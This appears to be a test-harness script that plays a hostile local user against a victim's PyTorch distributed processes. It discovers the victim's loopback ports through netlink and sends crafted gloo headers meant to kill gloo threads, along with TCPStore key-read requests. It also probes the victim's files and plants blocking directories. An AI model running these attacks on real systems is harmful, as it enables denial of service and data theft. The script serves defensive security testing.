"""Another user of the machine, for tests that run as root: attacks what listens on the loopback interface.

`python stranger.py VICTIM [PORT,...] FOLDER` becomes the user 65534 and says "ready". After a line "go" it connects to
each port of the user VICTIM, or to these ports only, speaks as gloo's ranks do, tries to read what the victim keeps in
FOLDER, and lays folders in its way there. After "stop" it prints what it has got, as JSON.
"""

from __future__ import annotations

import contextlib
import errno
import itertools
import json
import os
import select
import socket
import struct
import sys
import time
from pathlib import Path

USER = 65534
PAIRS = 4
LISTEN = 10
OPERATIONS = struct.pack("<6Q", 48, 1, 0, 0, 8, 0)
"""Header that gloo sends before a tensor: nbytes, opcode, slot, offset, length, roffset. Unexpected, it ends gloo's
thread."""
READS_A_KEY = b"\x00\x3c\x85\xf7\xce" + b"\x02" + struct.pack("<Q", 4) + b"/key"  # as a client of torch's TCPStore


def listening(victim: int) -> set[int]:
    """The ports on which the user VICTIM listens, from sock_diag(7): /proc/net/tcp takes 30 ms, ranks connect in 5."""
    request = struct.pack("=BBBxI48x", socket.AF_INET, socket.IPPROTO_TCP, 0, 1 << LISTEN)
    ports = set()
    with socket.socket(socket.AF_NETLINK, socket.SOCK_DGRAM, 4) as kernel:
        kernel.send(struct.pack("=IHHII", 16 + len(request), 20, 0x301, 0, 0) + request)
        while True:
            answer = kernel.recv(1 << 16)
            while answer:
                length, kind = struct.unpack_from("=IH", answer)
                if kind != 20:
                    return ports
                if struct.unpack_from("=I", answer, 80)[0] == victim:
                    ports.add(struct.unpack_from("!H", answer, 20)[0])
                answer = answer[length:]


def connect(port: int, words: bytes) -> socket.socket | None:
    connection = socket.socket()
    connection.setblocking(False)
    with contextlib.suppress(OSError):
        if connection.connect_ex(("127.0.0.1", port)) in (0, errno.EINPROGRESS):
            select.select([], [connection], [], 0.05)
            connection.send(words)
            return connection
    connection.close()
    return None


def read_files(folder: str) -> set[str]:
    """Return the readable files in the folder, except those of this process."""
    readable = set()
    for directory, _, names in os.walk(folder):
        for path in (Path(directory, name) for name in names):
            with contextlib.suppress(OSError):
                if path.stat().st_uid != USER:
                    path.open("rb").close()
                    readable.add(str(path))
    return readable


def main(victim: int, only: set[int], folder: str) -> None:
    os.setgroups([])
    os.setgid(USER)
    os.setuid(USER)
    print(json.dumps("ready"), flush=True)
    sys.stdin.readline()
    for name in ("²-x", "4294967296-x", "1-x"):
        with contextlib.suppress(OSError):
            Path(folder, f"rankbook-{victim}-{name}").mkdir()
    print(json.dumps("attacking"), flush=True)
    connections: dict[int, list[socket.socket]] = {}
    attempts, received = 0, b""
    readable: set[str] = set()
    rounds = itertools.count()
    while not select.select([sys.stdin], [], [], 0)[0]:
        for port in only or listening(victim):
            if len(connections.setdefault(port, [])) < 2 * PAIRS:
                attempts += 1
                number = len(connections[port])
                words = struct.pack("<Q", number) + OPERATIONS if number < PAIRS else READS_A_KEY
                connection = connect(port, words)
                if connection is not None:
                    connections[port].append(connection)
        for connection in [item for opened in connections.values() for item in opened]:
            with contextlib.suppress(OSError):
                received += connection.recv(1 << 16)
        if next(rounds) % 50 == 0:
            readable |= read_files(folder)
        time.sleep(0.0002)
    connected = sum(len(opened) for opened in connections.values())
    print(
        json.dumps({"attempts": attempts, "connected": connected, "received": received.hex(), "readable": [*readable]})
    )


if __name__ == "__main__":
    main(int(sys.argv[1]), {int(port) for port in sys.argv[2].split(",") if port}, sys.argv[3])
